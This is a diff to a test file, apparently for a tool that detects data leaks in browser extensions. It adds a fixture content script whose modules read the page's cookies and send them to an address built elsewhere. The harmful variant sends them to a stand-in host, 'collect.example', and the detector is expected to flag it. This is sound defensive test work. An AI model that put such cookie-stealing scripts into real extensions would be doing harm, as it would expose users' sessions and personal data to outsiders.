@@ -42,6 +42,19 @@ const ofTwo = (address: string): string =>
 const whileMade = (address: string): string =>
   `const server = process.env.NODE_ENV === 'development' ? 'http://localhost:4000' : 'https://www.shop.example'; fetch(server + '/user', { credentials: 'include' }).then((r) => r.json()).then(({ mail }) => fetch(${address} + '/stats', { method: 'POST', body: mail }));`;
 
+/** A helper that adds the page's cookies to a request, to an address that a function of another module makes. */
+const ofAddresses = (address: string): Case => ({
+  permissions: [],
+  script: '',
+  contentScripts: [{ matches: ['https://*/*'], js: ['content.js'] }],
+  more: {
+    'content.js':
+      "import { get } from './http.js'; import { addressOf } from './address.js'; document.addEventListener('load', () => get(addressOf('/me')));",
+    'http.js': 'export const get = (url) => fetch(url, { headers: { token: document.cookie } });',
+    'address.js': `export const addressOf = (path) => { const base = ${address}; return base + path; };`,
+  },
+});
+
 /** A content script of these sites whose module reads cookies, which the background sends to one site. */
 const ofModule = (matches: string): Case => ({
   permissions: ['<all_urls>'],
@@ -147,6 +160,13 @@ it.each<[string, Case, readonly string[], Case, readonly string[]]>([
     ofModule('https://www.shop.example/*'),
     [],
     ofModule('https://*/*'),
+    ['input-to-network'],
+  ],
+  [
+    'cookies of the page that go to the page’s own site, at an address that another module makes',
+    ofAddresses("'https://' + document.location.host"),
+    [],
+    ofAddresses("'https://collect.example/' + document.location.host"),
     ['input-to-network'],
   ],
 ])('does not tell %s', async (_, harmless, silent, harmful, told) => {
